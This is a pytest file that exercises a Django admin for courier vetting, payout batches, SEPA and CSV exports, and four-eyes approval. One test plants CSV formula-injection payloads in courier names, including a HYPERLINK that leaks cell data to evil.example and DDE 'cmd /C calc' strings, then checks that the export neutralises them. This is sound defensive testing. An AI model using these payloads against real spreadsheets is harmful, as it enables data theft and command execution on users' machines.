"""The workforce manager's back-office screens through the Django test client."""

import csv
import datetime as dt
import io
import xml.etree.ElementTree as ET

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.core import mail
from django.test import Client
from django.utils import timezone

from lastmile.accounts.models import User
from lastmile.accounts.roles import Role
from tests.factories import StaffFactory
from tests.hubs.factories import HubFactory
from tests.workforce.factories import CourierFactory, active_courier, entry, submitted_courier
from workforce import services
from workforce.models import (
    ApplicationStatus,
    CourierApplication,
    CourierStatus,
    EarningEntry,
    PayoutBatch,
    PayoutStatus,
    PayoutWeek,
)

pytestmark = pytest.mark.django_db

MONDAY = dt.date(2026, 3, 2)


@pytest.fixture
def manager(client):
    user = StaffFactory(username="wiebke", role=Role.WORKFORCE_MANAGER)
    client.force_login(user)
    client.user = user
    return client


@pytest.fixture
def second_manager():
    """Another finance user, in a browser of their own (the four-eyes partner)."""
    user = StaffFactory(username="jonas", role=Role.WORKFORCE_MANAGER)
    client = Client()
    client.force_login(user)
    client.user = user
    return client


def _applications(count: int) -> None:
    hubs = [HubFactory(), HubFactory()]
    for n in range(count):
        submitted_courier(hub=hubs[n % 2], n=n)


def _batches(count: int) -> None:
    hub = HubFactory()
    week = PayoutWeek.objects.create(week_start=MONDAY, closed_at=timezone.now())
    for n in range(count):
        courier = CourierFactory(home_hub=hub, vehicle="bike", status=CourierStatus.ACTIVE)
        batch = PayoutBatch.objects.create(
            courier=courier,
            week=week,
            currency="EUR",
            total_minor=1000 + n,
            entry_count=2,
            end_to_end_id=f"LM-{n}",
        )
        for k in range(2):
            EarningEntry.objects.create(
                courier=courier,
                kind="stop",
                source_type="delivery_attempt",
                source_id=n * 10 + k,
                amount_minor=500,
                currency="EUR",
                earned_at=timezone.now(),
                batch=batch,
            )


# The same number of queries for 30 or 60 rows: session, user, permissions, the filter
# choices, counts and the page itself — never one per row.
@pytest.mark.parametrize("count", [30, 60])
def test_application_queue_costs_the_same_queries_whatever_its_length(
    manager, django_assert_num_queries, count
):
    _applications(count)

    with django_assert_num_queries(10):
        response = manager.get("/admin/workforce/courierapplication/")

    assert response.status_code == 200
    assert response.content.count(b'class="action-select"') == count


@pytest.mark.parametrize("count", [30, 60])
def test_courier_list_with_performance_costs_the_same_queries(
    manager, django_assert_num_queries, count
):
    _applications(count)

    with django_assert_num_queries(8):
        response = manager.get("/admin/workforce/courier/")

    assert response.status_code == 200
    assert response.content.count(b'class="action-select"') == count


@pytest.mark.parametrize("count", [30, 60])
def test_payout_batch_list_costs_the_same_queries(manager, django_assert_num_queries, count):
    _batches(count)

    with django_assert_num_queries(9):
        response = manager.get("/admin/workforce/payoutbatch/")

    assert response.status_code == 200
    assert response.content.count(b'class="action-select"') == count


@pytest.mark.parametrize("count", [30, 60])
def test_earnings_ledger_list_costs_the_same_queries(manager, django_assert_num_queries, count):
    _batches(count // 2)

    with django_assert_num_queries(10):
        response = manager.get("/admin/workforce/earningentry/")

    assert response.status_code == 200
    assert response.content.count(b'class="action-select"') == count


def test_queue_filters_by_status_and_kind(manager):
    _applications(3)
    first = CourierApplication.objects.order_by("pk").first()
    services.application_start_review(application=first, reviewer=manager.user)

    in_review = manager.get(
        "/admin/workforce/courierapplication/", {"status__exact": "under_review"}
    )
    crowd = manager.get("/admin/workforce/courierapplication/", {"courier__kind__exact": "crowd"})

    assert [a.pk for a in in_review.context["cl"].result_list] == [first.pk]
    assert crowd.context["cl"].result_count == 3


def test_application_page_shows_documents_and_approving_activates_and_mails(
    manager, django_capture_on_commit_callbacks
):
    courier = submitted_courier()
    application = courier.application
    url = f"/admin/workforce/courierapplication/{application.pk}/change/"

    page = manager.get(url)
    html = page.content.decode()
    document = courier.documents.get()
    assert f'<img src="/courier/documents/{document.pk}/file/"' in html
    assert "DE•• •••• •••• •••• 3000" in html
    assert "0532013000" not in html

    with django_capture_on_commit_callbacks(execute=True):
        decided = manager.post(
            f"/admin/workforce/courierapplication/{application.pk}/decide/",
            {"decision": "approve"},
            follow=True,
        )

    application.refresh_from_db()
    courier.refresh_from_db()
    assert application.status == ApplicationStatus.APPROVED
    assert courier.status == CourierStatus.ACTIVE
    assert "Application is now approved." in [str(m) for m in decided.context["messages"]]
    assert mail.outbox[-1].subject == "Your courier application is approved"


def test_rejecting_without_a_reason_is_refused_with_a_message(manager):
    courier = submitted_courier()

    response = manager.post(
        f"/admin/workforce/courierapplication/{courier.application.pk}/decide/",
        {"decision": "reject", "reason": "  "},
        follow=True,
    )

    courier.application.refresh_from_db()
    assert courier.application.status == ApplicationStatus.SUBMITTED
    assert any("Say why" in str(m) for m in response.context["messages"])


def test_request_changes_action_asks_for_a_note_then_reports_each_row(manager):
    pending, approved = submitted_courier(n=1), active_courier(n=2)
    selection = {
        "action": "request_changes",
        ACTION_CHECKBOX_NAME: [pending.application.pk, approved.application.pk],
    }

    ask = manager.post("/admin/workforce/courierapplication/", selection)
    done = manager.post(
        "/admin/workforce/courierapplication/",
        {**selection, "apply": "1", "reason": "Upload the back of your ID."},
        follow=True,
    )

    assert b'name="reason"' in ask.content
    texts = " ".join(str(m) for m in done.context["messages"])
    assert "1 courier applications sent back for changes." in texts
    assert "cannot move from 'approved'" in texts


def test_dispatchers_cannot_open_the_vetting_queue(client):
    client.force_login(StaffFactory(role=Role.DISPATCHER))

    assert client.get("/admin/workforce/courierapplication/").status_code == 403


def test_coverage_page_shows_hours_against_need(manager):
    from workforce.models import AvailabilitySlot, CoverageNeed

    courier = active_courier()
    day = timezone.localdate() + dt.timedelta(days=1)
    AvailabilitySlot.objects.create(
        courier=courier, hub=courier.home_hub, day=day, starts_at=dt.time(8), ends_at=dt.time(10)
    )
    CoverageNeed.objects.create(
        hub=courier.home_hub,
        weekday=day.weekday(),
        starts_at=dt.time(8),
        ends_at=dt.time(12),
        couriers=3,
    )

    response = manager.get(
        "/admin/workforce/availabilityslot/coverage/",
        {"hub": courier.home_hub.pk, "day": day.isoformat()},
    )

    assert response.status_code == 200
    rows = response.context["rows"]
    assert [(r["hour"].hour, float(r["hour"].available), r["hour"].needed) for r in rows] == [
        (8, 1.0, 3),
        (9, 1.0, 3),
        (10, 0.0, 3),
        (11, 0.0, 3),
    ]


def test_close_week_page_then_approve_and_download_the_sepa_file(manager, second_manager):
    courier = active_courier()
    entry(
        courier,
        amount_minor=4321,
        earned_at=dt.datetime(2026, 3, 3, 10, tzinfo=dt.UTC),
        source_id=1,
    )

    closed = manager.post(
        "/admin/workforce/payoutbatch/close-week/", {"week": "2026-03-04"}, follow=True
    )
    again = manager.post(
        "/admin/workforce/payoutbatch/close-week/", {"week": "2026-03-02"}, follow=True
    )
    batch = PayoutBatch.objects.get()
    approve = manager.post(
        "/admin/workforce/payoutbatch/",
        {"action": "approve_batches", ACTION_CHECKBOX_NAME: [batch.pk]},
    )
    sepa = second_manager.post(
        "/admin/workforce/payoutbatch/",
        {"action": "export_sepa", ACTION_CHECKBOX_NAME: [batch.pk]},
    )

    assert "1 batch(es), 43.21 EUR" in " ".join(str(m) for m in closed.context["messages"])
    assert "already closed" in " ".join(str(m) for m in again.context["messages"])
    assert approve.status_code == 302
    assert sepa.status_code == 200
    assert sepa["Content-Disposition"].startswith("attachment")
    root = ET.fromstring(b"".join(sepa.streaming_content))  # noqa: S314 - our own file
    assert root.find(".//{*}CtrlSum").text == "43.21"
    batch.refresh_from_db()
    assert batch.status == PayoutStatus.EXPORTED


def test_csv_export_action_downloads_one_line_per_entry(manager):
    _batches(3)

    response = manager.post(
        "/admin/workforce/payoutbatch/",
        {
            "action": "export_csv",
            ACTION_CHECKBOX_NAME: list(PayoutBatch.objects.values_list("pk", flat=True)),
        },
    )

    assert response["Content-Type"].startswith("text/csv")
    assert response.content.decode().count("\n") == 1 + 6


def _payout_csv_download(client):
    return client.post(
        "/admin/workforce/payoutbatch/",
        {
            "action": "export_csv",
            ACTION_CHECKBOX_NAME: list(PayoutBatch.objects.values_list("pk", flat=True)),
        },
    )


def test_payout_csv_is_an_uncached_attachment_browsers_do_not_sniff(manager):
    # given batches with their entries
    _batches(2)

    # when finance downloads them as CSV
    response = _payout_csv_download(manager)

    # then the file is a download no browser renders, sniffs or keeps
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="payouts-')
    assert response["X-Content-Type-Options"] == "nosniff"
    assert {"private", "no-store"} <= set(response["Cache-Control"].split(", "))
    assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"


def test_courier_names_in_the_payout_csv_never_run_as_spreadsheet_formulas(manager):
    # given couriers whose names (typed by themselves at sign-up) are formulas
    _batches(3)
    names = [
        ('=HYPERLINK("http://evil.example/?"&A1,"Pay")', ""),
        ("", "-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", ""),
    ]
    for batch, (first, last) in zip(PayoutBatch.objects.order_by("pk"), names, strict=True):
        User.objects.filter(pk=batch.courier.user_id).update(first_name=first, last_name=last)
    EarningEntry.objects.filter(pk=EarningEntry.objects.order_by("pk")[0].pk).update(
        description="+49 paid in cash"
    )

    # when finance downloads the batches as CSV
    text = _payout_csv_download(manager).content.decode()

    # then every name and description is text to a spreadsheet, not a formula
    rows = list(csv.DictReader(io.StringIO(text)))
    assert {row["courier"] for row in rows} == {
        '\'=HYPERLINK("http://evil.example/?"&A1,"Pay")',
        "'-2+3+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
    }
    assert "'+49 paid in cash" in {row["description"] for row in rows}


def test_sepa_file_downloads_are_uncached_attachments_browsers_do_not_sniff(
    manager, second_manager
):
    # given a batch approved by one manager
    batch = _closed_batch()
    _batch_action(manager, "approve_batches", batch)

    # when a colleague exports it, then downloads the kept file again
    exported = _batch_action(second_manager, "export_sepa", batch, follow=False)
    exported_body = b"".join(exported.streaming_content)
    export = PayoutBatch.objects.get(pk=batch.pk).export
    again = second_manager.get(f"/admin/workforce/payoutexport/{export.pk}/download/")
    again_body = b"".join(again.streaming_content)

    # then both are the bank file as a download no browser renders, sniffs or keeps
    assert b"<NbOfTxs>1</NbOfTxs>" in exported_body
    assert exported_body == again_body == export.file.open("rb").read()
    for response in (exported, again):
        assert response.status_code == 200
        assert response["Content-Disposition"] == f'attachment; filename="{export.message_id}.xml"'
        assert response["X-Content-Type-Options"] == "nosniff"
        assert {"private", "no-store"} <= set(response["Cache-Control"].split(", "))
        assert response["Content-Security-Policy"] == "sandbox; default-src 'none'"


def test_correct_action_appends_a_correction(manager):
    courier = active_courier()
    stop = entry(courier, amount_minor=250, earned_at=timezone.now(), source_id=1)

    manager.post(
        "/admin/workforce/earningentry/",
        {
            "action": "correct_entries",
            ACTION_CHECKBOX_NAME: [stop.pk],
            "apply": "1",
            "amount": "4.00",
            "reason": "peak missed",
        },
    )

    correction = EarningEntry.objects.get(corrects=stop)
    assert correction.amount_minor == 150
    assert correction.created_by == manager.user


# --- Payout accounts and four eyes, as finance users see them -------------------------------


def _messages(response) -> str:
    return " ".join(str(m) for m in response.context["messages"])


def _batch_action(client, action: str, batch: PayoutBatch, follow: bool = True):
    return client.post(
        "/admin/workforce/payoutbatch/",
        {"action": action, ACTION_CHECKBOX_NAME: [batch.pk]},
        follow=follow,
    )


def _closed_batch() -> PayoutBatch:
    courier = active_courier()
    entry(
        courier,
        amount_minor=4321,
        earned_at=dt.datetime(2026, 3, 3, 10, tzinfo=dt.UTC),
        source_id=1,
    )
    (batch,) = services.payout_week_close(week_start=MONDAY).created
    return batch


def test_an_iban_changed_after_approval_is_held_in_the_admin_until_released(
    manager, second_manager
):
    # given a batch approved in the admin, then the courier changes their IBAN in the portal
    batch = _closed_batch()
    _batch_action(manager, "approve_batches", batch)
    courier_browser = Client()
    courier_browser.force_login(batch.courier.user)
    courier_browser.post(
        "/courier/application/payout/",
        {"account_holder": "Ada Courier0", "iban": "NL91 ABNA 0417 1643 00", "bic": ""},
    )

    # when another finance user tries to export it, looks at the list, releases it, exports
    refused = _batch_action(second_manager, "export_sepa", batch)
    listing = second_manager.get("/admin/workforce/payoutbatch/?status__exact=account_changed")
    released = _batch_action(second_manager, "release_account_hold", batch)
    sepa = _batch_action(manager, "export_sepa", batch, follow=False)

    # then the export was refused with the reason, the list shows it, and the file pays the
    # account checked on release
    assert refused.status_code == 200
    assert "account changed after approval" in _messages(refused)
    assert "Held: account changed" in listing.content.decode()
    assert "changed their payout account after approval" in listing.content.decode()
    assert "1 payout batches released" in _messages(released)
    assert sepa.status_code == 200
    root = ET.fromstring(b"".join(sepa.streaming_content))  # noqa: S314 - our own file
    assert root.find(".//{*}CdtrAcct/{*}Id/{*}IBAN").text == "NL91ABNA0417164300"


def test_the_approver_is_told_another_finance_user_must_export(manager, second_manager):
    # given a batch the manager approved
    batch = _closed_batch()
    _batch_action(manager, "approve_batches", batch)

    # when the same manager, then a colleague, export it
    own = _batch_action(manager, "export_sepa", batch)
    other = _batch_action(second_manager, "export_sepa", batch, follow=False)

    # then the approver gets a clear message and no file; the colleague gets the file
    assert own.status_code == 200
    assert "Four eyes: you approved this batch yourself" in _messages(own)
    assert other.status_code == 200
    assert other["Content-Disposition"].startswith("attachment")
    batch.refresh_from_db()
    assert batch.status == PayoutStatus.EXPORTED


def test_with_four_eyes_off_the_approver_exports_in_the_admin(manager, settings):
    # given a one-person company
    settings.WORKFORCE_PAYOUT_FOUR_EYES = False
    batch = _closed_batch()
    _batch_action(manager, "approve_batches", batch)

    # when the approver exports
    sepa = _batch_action(manager, "export_sepa", batch, follow=False)

    # then the file comes
    assert sepa.status_code == 200
    assert sepa["Content-Disposition"].startswith("attachment")


def _closed_batch_for_second_courier() -> PayoutBatch:
    from cryptography.fernet import Fernet

    from tests.workforce.factories import VALID_IBANS
    from workforce.models import Courier

    courier = active_courier(n=1)
    token = Fernet(Fernet.generate_key()).encrypt(VALID_IBANS[1].encode()).decode()
    Courier.objects.filter(pk=courier.pk).update(iban_encrypted=token)
    entry(
        courier,
        amount_minor=100,
        earned_at=dt.datetime(2026, 3, 10, 10, tzinfo=dt.UTC),
        source_id=2,
    )
    (batch,) = services.payout_week_close(week_start=MONDAY + dt.timedelta(days=7)).created
    return batch


def test_an_account_no_key_can_read_is_a_message_in_the_admin_not_an_error_page(
    manager, second_manager, settings
):
    from cryptography.fernet import Fernet

    # given an approved batch, and the key its account was stored with dropped
    settings.WORKFORCE_FIELD_ENCRYPTION_KEYS = [Fernet.generate_key().decode()]
    batch = _closed_batch()
    _batch_action(manager, "approve_batches", batch)
    settings.WORKFORCE_FIELD_ENCRYPTION_KEYS = [Fernet.generate_key().decode()]
    other = _closed_batch_for_second_courier()

    # when it is exported, and another batch of an unreadable account is approved
    export = _batch_action(second_manager, "export_sepa", batch)
    approve = _batch_action(manager, "approve_batches", other)

    # then both are refused with a message naming the cause
    assert export.status_code == 200
    assert "cannot be decrypted" in _messages(export)
    assert approve.status_code == 200
    assert "cannot be decrypted" in _messages(approve)
